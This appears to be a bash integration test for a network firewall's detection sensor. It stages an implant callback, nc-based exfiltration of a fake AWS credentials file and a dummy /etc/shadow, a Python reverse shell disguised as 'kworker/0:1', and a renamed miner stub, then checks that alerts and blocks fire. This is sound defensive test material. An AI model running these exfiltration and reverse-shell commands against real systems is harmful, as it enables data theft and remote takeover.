#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# test_scenes.sh BUILD_DIR - what an attack looks like and what comes of it,
# with the rules that are shipped.
#
# An implant calls its master; a secret goes out; a shell is at the end of a
# connection; a miner has another name; and the first of these again, in a
# flood of events. test_guessing.sh has the passwords that are guessed.
#
# The rules are a copy without `observe: true`, as docs/detection.md has it; but
# only in the files that the scenes are about, for the sensor sees all of this
# machine, and so would the others' steps.
set -eu
if [ -z "${SCENES_INSIDE:-}" ] && [ "$(id -u)" = 0 ]; then
	exec env SCENES_INSIDE=1 unshare --mount --propagation private \
		bash "$0" "$@"
fi
here=$(dirname "$0")
# shellcheck source=tests/support/netns.sh
. "$here/../support/netns.sh" "${1:?usage: test_scenes.sh BUILD_DIR}"
stub=$1/tests/bpf/stub
event_flood=$1/tests/netns/event_flood
for program in "$stub" "$event_flood"; do
	[ -x "$program" ] || skip "$program is not built"
done
command -v nc >/dev/null || skip "nc is not installed"

rules=$work/rules
disk=$work/disk
list=$work/denied
mark=marked-$$
implant=203.0.113.21
pipe=203.0.113.22
thief=203.0.113.23
master=203.0.113.24
late=203.0.113.25
flooded=203.0.113.128 # and so on; nobody is there

cp -r "$top/rules/default/detect" "$rules"
sed -i '/observe: true/d' "$rules"/{exfiltration,reverse-shells}.yml
cat >"$rules/site.yml" <<-END
	version: 1
	rules:
	  - name: call to a known master
	    id: site-master
	    event: connect
	    action: block
	    match: {addr: [$implant, $late]}
END
mkdir "$disk"
mount -t tmpfs -o size=16m,mode=755 tmpfs "$disk" ||
	skip "no tmpfs may be mounted"
cp "$stub" "$disk/xmrig"
(cd "$disk" && sha256sum xmrig) >"$list"
cat >>"$work/fwd.yml" <<-END
	sensor: true
	detect_rules: $rules
	detect_block: true
	detect_steps: table,refuse,cut,end
	exec_denylist: $list
	exec_denylist_places: $disk
END
for peer in $implant $pipe $thief $master $late; do
	ip -n "$internet" addr add $peer/32 dev peer0
done
# what is read there is told as of the file that everybody has
echo 'root:not a secret:1:0:99999:7:::' >"$work/shadow"
mount --bind "$work/shadow" /etc/shadow || skip "nothing may be bound"

detection() {
	ask "$1" detect status
}

# found RULE FILTER: has an alert of this rule been told that meets it?
found() {
	"$fwctl" alert list --json | jq -es --arg rule "$1" \
		"any(.[].alert; .rule.id == \$rule and ($2))" >/dev/null
}

is_member() {
	[ "$(verdict "$1")" = drop ] &&
		[ "$(ask '.claims[0].origin' why "$1")" = detection ]
}

dropped() {
	ask '.sets[] | select(.name == "detected").packets' set list
}

# is_shut_out PEER RULE: in the set by this rule, and its packets end there.
is_shut_out() {
	local before
	wait_for "the block of $1" is_member "$1"
	wait_for "the alert of $2 about $1" found "$2" \
		".destination.ip == \"$1\" and .event.id == \"$(
			ask .alert.id why "$1")\" and
		(.portcullis.done | index(\"table\"))"
	before=$(dropped)
	in_internet ping -c 3 -i 0.2 -W 1 -I "$1" $own4 >/dev/null 2>&1 &&
		fail "packets of $1 arrive"
	[ "$(dropped)" -ge $((before + 3)) ] ||
		fail "of $1 are dropped $(($(dropped) - before))"
}

in_internet_listens() {
	in_internet ss -Hltn | grep -q "$1:$2"
}

# hears PEER PORT: what comes there is left in $work/PEER.
hears() {
	in_background "$internet" nc -l "$1" "$2" >"$work/$1" 2>/dev/null
	wait_for "who listens" in_internet_listens "$1" "$2"
}

# connects PEER PORT: a process of the gateway's.
connects() {
	in_gateway python3 - "$1" "$2" "$mark" <<-'END' || true
		import socket, sys
		s = socket.socket()
		s.setblocking(False)
		s.connect_ex((sys.argv[1], int(sys.argv[2])))
	END
}

fwd_start
does attach wan0
[ "$(detection .refused)" = 0 ] || fail "$(detection .first_refused)"
[ "$(detection .blocking.on)" = true ] || fail "blocks are off"
if has_alert "CAP_SYS_ADMIN|cannot be watched: Operation not permitted"; then
	skip "this may not watch executions"
fi

connects $implant 443
is_shut_out $implant site-master
echo "ok: an implant that calls a known master"

# in both the rule is met by what carries the secret
mkdir -p "$work/.aws"
echo 'aws_secret_access_key = none' >"$work/.aws/credentials"
hears $pipe 8443
in_gateway bash -c 'cat "$1" | nc -N -w 5 "$2" 8443' - \
	"$work/.aws/credentials" $pipe || true
is_shut_out $pipe exfiltration-pipe
hears $thief 8443
in_gateway bash -c 'nc -N -w 5 "$1" 8443 </etc/shadow' - $thief || true
is_shut_out $thief exfiltration-sent
echo "ok: a secret that is sent to somebody new"

members=$(detection .blocking.members)
in_background "$internet" python3 -c 'import socket, time
s = socket.create_server(("'$master'", 4444))
t, _ = s.accept()
time.sleep(600)'
wait_for "the master" in_internet_listens $master 4444
status=0
in_gateway timeout 120 python3 - $master <<-'END' || status=$?
	import os, socket, sys
	s = socket.create_connection((sys.argv[1], 4444), 30)
	s.settimeout(None)
	for fd in range(3):
	    os.dup2(s.fileno(), fd)
	os.execv("/bin/sh", ["kworker/0:1"])
END
is "status of the shell" 137 "$status"
wait_for "the alert" found reverse-shell-stdio \
	".portcullis.level == \"critical\" and
	(.process.command_line == \"kworker/0:1\") and
	(.portcullis.done | index(\"end\"))"
[ "$(detection .steps.end.done)" -ge 1 ] || fail "no end is counted"
# an execution has no peer: the rule ends the shell, and lists nobody
is "members" "$members" "$(detection .blocking.members)"
echo "ok: a shell at the end of a connection, by any name"

cp "$disk/xmrig" "$disk/kworker"
status=0
"$disk/kworker" 2>"$work/ran" || status=$?
is "the renamed miner" 126 "$status"
grep -q "Operation not permitted" "$work/ran" || fail "$(cat "$work/ran")"
wait_for "the alert" found "exec denylist" \
	".process.executable == \"$disk/kworker\" and
	.process.hash.sha256 == \"$(cut -d ' ' -f 1 "$list")\""
# another digest, and the arguments tell
cp "$stub" "$disk/ksoftirqd"
printf x >>"$disk/ksoftirqd"
"$disk/ksoftirqd" --donate-level=1
wait_for "the alert" found miner-arguments \
	".process.executable == \"$disk/ksoftirqd\""
echo "ok: a miner of another name"

# sensed FILTER: of all kinds together.
sensed() {
	ask "[.sensor.kinds[].$1] | add" status
}

runs_ever() {
	bash -c 'while :; do /bin/true; done' &
	others+=($!)
}

# loss_is_told: all that the kernel has counted as lost, by as many events.
loss_is_told() {
	ask '.sensor | .lost == ([.kinds[].lost] | add)' status | grep -qx true
}

has_alert_of_loss() {
	has_alert "the sensor has lost events: $(ask .sensor.lost status) "
}

before=$(sensed seen)
began=$(date +%s%N)
in_background "$gateway" "$event_flood" $flooded
in_background "$gateway" "$event_flood" 203.0.113.192
runs_ever
flood=("${others[@]: -3}")
is_flooded() {
	[ "$(sensed seen)" -ge $((before + 100000)) ]
}
wait_for "the flood" is_flooded
rate=$((($(sensed seen) - before) * 1000000 / (($(date +%s%N) - began) / 1000)))
calls=0
calls_home() {
	calls=$((calls + 1))
	connects $late 443
	is_member $late
}
wait_for "the block in a flood" calls_home
is_shut_out $late site-master
for pid in "${flood[@]}"; do
	end "$pid"
done
echo "flood: $rate events a second while all of it runs, lost $(sensed lost) of" \
	"$(($(sensed seen) - before)), calls until the block: $calls"
echo "ok: the same in a flood of events"

# nobody reads meanwhile, so what does not fit into the ring is lost for sure
before=$(sensed lost)
kill -STOP "$fwd_pid"
began=$(date +%s%N)
in_gateway "$event_flood" $flooded 200000 &
flood=("$!")
in_gateway "$event_flood" 203.0.113.192 200000 &
flood+=("$!")
failed=
wait "${flood[0]}" || failed=1
wait "${flood[1]}" || failed=1
rate=$((400000 * 1000000 / (($(date +%s%N) - began) / 1000)))
kill -CONT "$fwd_pid"
[ -z "$failed" ] || fail "the flood ended"
wait_for "what was lost to be told" loss_is_told
lost=$(sensed lost)
echo "flood: $rate events a second made, lost $((lost - before)) of 400000"
[ $((lost - before)) -ge 200000 ] || fail "only $((lost - before)) are lost"
wait_for "the alert of the loss" has_alert_of_loss
does detect status
said "^lost +[1-9]"
is_member $late || fail "who was blocked is not any more"
does unblock --set detected $late
calls_home || true
wait_for "the block behind a loss" calls_home
echo "ok: what was lost is told, and who calls after it is found"
fwd_stop
